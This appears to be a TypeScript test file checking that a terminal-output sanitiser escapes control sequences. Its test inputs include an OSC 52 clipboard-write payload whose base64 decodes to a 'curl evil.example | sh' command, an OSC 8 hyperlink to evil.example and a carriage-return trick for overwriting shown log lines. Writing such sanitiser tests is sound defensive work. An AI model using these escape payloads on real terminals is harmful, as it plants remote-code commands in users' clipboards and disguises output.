import assert from 'node:assert/strict';
import { test } from 'node:test';
import { terminalSafe } from '../../../src/shared/index.js';

const ESC = '\x1b';

/** Every code point a terminal could act on (ECMA-48 C0 but TAB/LF, DEL, C1); none may remain. */
function assertInert(text: string): void {
  for (const c of text) {
    const code = c.codePointAt(0) as number;
    const control = (code < 0x20 && c !== '\n' && c !== '\t' && c !== '\r') || (code >= 0x7f && code <= 0x9f);
    assert.ok(!control, `control U+${code.toString(16).padStart(4, '0')} left in ${JSON.stringify(text)}`);
  }
  assert.doesNotMatch(text, /\r(?!\n)/, `a lone CR left in ${JSON.stringify(text)}`);
}

test('ECMA-48 §8.3.89 OSC 52 (clipboard write) ended by BEL is shown, not sent', () => {
  const attack = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`;
  const safe = terminalSafe(`before ${attack} after`);
  assertInert(safe);
  assert.equal(safe, 'before \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 after');
});

test('ECMA-48 §8.3.143 ST (ESC \\) ending OSC 52 and an OSC 8 hyperlink is shown, not sent', () => {
  const attack = `${ESC}]52;c;ZXZpbA==${ESC}\\ ${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`;
  const safe = terminalSafe(attack);
  assertInert(safe);
  assert.equal(safe, '\\x1b]52;c;ZXZpbA==\\x1b\\ \\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\');
});

test('ECMA-48 §5.4 CSI sequences (cursor up, erase line, colours) and DCS lose their ESC', () => {
  const safe = terminalSafe(`${ESC}[2A${ESC}[2K${ESC}[31mred${ESC}[0m ${ESC}P+q544e${ESC}\\`);
  assertInert(safe);
  assert.equal(safe, '\\x1b[2A\\x1b[2K\\x1b[31mred\\x1b[0m \\x1bP+q544e\\x1b\\');
});

test('ECMA-48 §5.2 C1 controls (8-bit CSI U+009B, OSC U+009D, ST U+009C) and DEL are shown as \\xNN', () => {
  const safe = terminalSafe('\u009b2J\u009d52;c;eA==\u009c\x7f\u0080\u009f');
  assertInert(safe);
  assert.equal(safe, '\\x9b2J\\x9d52;c;eA==\\x9c\\x7f\\x80\\x9f');
});

test('a lone CR (which would let a line overwrite what was shown) is shown; a CRLF line end stays', () => {
  const safe = terminalSafe('npm error E404\r[skep] workload started fine\r\nnext\rline\r');
  assertInert(safe);
  assert.equal(safe, 'npm error E404\\x0d[skep] workload started fine\r\nnext\\x0dline\\x0d');
});

test('C0 controls other than LF and TAB are shown (NUL, BEL, BS, VT, FF, SO, SI, SUB, ESC, US)', () => {
  for (let code = 0; code < 0x20; code++) {
    const c = String.fromCharCode(code);
    if (c === '\n' || c === '\t' || c === '\r') continue;
    assert.equal(terminalSafe(`a${c}b`), `a\\x${code.toString(16).padStart(2, '0')}b`);
  }
});

test('ordinary text, LF, TAB and non-ASCII text (accents, CJK, emoji, U+00A0 and up) pass unchanged', () => {
  const text = 'Traceback (most recent call last):\n\tFile "x.py"\ncafé 東京 🚀 \u00a0non-breaking\n';
  assert.equal(terminalSafe(text), text);
  assert.equal(terminalSafe(''), '');
});
